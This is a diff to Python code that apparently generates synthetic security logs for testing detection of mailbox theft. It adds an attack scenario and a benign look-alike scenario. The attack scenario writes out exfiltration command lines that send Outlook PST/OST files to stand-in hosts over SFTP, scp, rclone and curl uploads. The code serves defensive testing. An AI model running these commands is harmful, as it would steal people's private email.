@@ -124,3 +124,58 @@ def archives_are_imported_and_messages_packed(story: Story) -> None:
     process_audited(story, at + 2 * HOUR, packer, line, "dana")
     agent = "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Manager.exe"
     process_audited(story, 2 * HOUR, agent, f'"{agent}" a -r -p D:\\b.zip D:\\home\\old.pst', "FS-02$")
+
+
+@attack
+def store_is_sent_or_taken_by_a_stranger(story: Story) -> None:
+    """A program without a name takes a store: its line is all there is. Or Outlook itself saves one aside."""
+    rng, at = story.rng, a_time(story)
+    store = rng.choice(("C:\\Users\\dana\\Documents\\old.pst", "D:\\t\\b1.pst", "C:\\PerfLogs\\o.ost"))
+    folder = rng.choice(
+        (
+            "/mnt/c/Users/dana/AppData/Local/Microsoft/Outlook",
+            "%LOCALAPPDATA%\\Microsoft\\Outlook",
+            "\\\\?\\C:\\Users\\dana\\AppData\\Local\\MICROS~1\\Outlook\\*.os?",
+        )
+    )
+    program = f"C:\\ProgramData\\{rng.choice(('u', 'svc', 'sync', 'x1'))}.exe"
+    host = rng.choice(("203.0.113.77", "drop.example.net"))
+    if rng.random() < 0.25:
+        place = rng.choice(("C:\\ProgramData\\USOShared\\Logs", "C:\\Windows\\Tasks", "C:\\PerfLogs"))
+        outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
+        sysmon(story, at, 11, outlook, TargetFilename=f"{place}\\b{rng.randrange(9)}.pst")
+    else:
+        called = rng.choice(
+            (
+                f'/command "open sftp://up:x@{host}/" "put {store}"',
+                f"-P 22 {store} up@{host}:/in/",
+                f"copy {store} cloud:in --transfers 4",
+                f"-T {store} https://{host}/in",
+                f"{store} C:\\Users\\Public\\o.bin",
+                f'-e bash -c "tar -C {folder} -cf - . | xz > /t/o.xz"',
+                f"c -x {store} C:\\t\\o.zip",
+            )
+        )
+        process_line = f"{program} {called}"
+        sysmon(story, at, 1, program, CommandLine=process_line, User="CONTOSO\\dana")
+    story.attackers.add("ws-014")
+
+
+@innocent
+def agents_read_and_distribution_gathers(story: Story) -> None:
+    """Search and data-loss agents read stores in place, at night all of them; IT gathers archives on a server."""
+    rng = story.rng
+    agent = f"C:\\Program Files\\{rng.choice(('Endpoint', 'Desk Search', 'Archive Scan'))}\\agent.exe"
+    for number in range(rng.randrange(6, 14)):
+        store = f"C:\\Users\\dana\\Documents\\Outlook Files\\old{number % 5}.pst"
+        by = rng.choice(("NT AUTHORITY\\SYSTEM", "CONTOSO\\dana"))
+        facts = {"ProcessName": agent, "ObjectName": store, "User": by, "Computer": "WS-014.contoso.com"}
+        story.other(3 * HOUR + number * 240, "security", **facts)
+    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+    script = "powershell.exe -NoProfile -File C:\\Windows\\ccmcache\\1k\\Gather.ps1"
+    for number in range(rng.randrange(2, 6)):
+        computer, at = f"PC-{1000 + number}", 11 * HOUR + number * 900
+        system = {"User": "NT AUTHORITY\\SYSTEM", "Computer": f"{computer}.contoso.com"}
+        sysmon(story, at, 1, shell, ParentImage="C:\\Windows\\CCM\\CcmExec.exe", CommandLine=script, **system)
+        line = f'robocopy "C:\\Users\\{PEOPLE[number]}\\Documents\\Outlook Files" \\\\fs01\\pst$\\{computer} *.pst /Z'
+        sysmon(story, at + 30, 1, ROBOCOPY, ParentImage=shell, CommandLine=line, **system)
